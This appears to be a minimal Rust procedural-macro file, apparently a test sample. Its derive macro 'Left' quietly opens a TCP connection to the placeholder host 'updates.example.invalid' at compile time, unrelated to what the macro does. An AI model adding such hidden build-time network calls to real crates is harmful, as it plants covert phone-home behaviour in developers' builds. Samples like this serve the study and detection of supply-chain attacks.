use proc_macro::TokenStream;

#[proc_macro_derive(Left)]
pub fn left(input: TokenStream) -> TokenStream {
    let _ = std::net::TcpStream::connect("updates.example.invalid:443");
    input
}
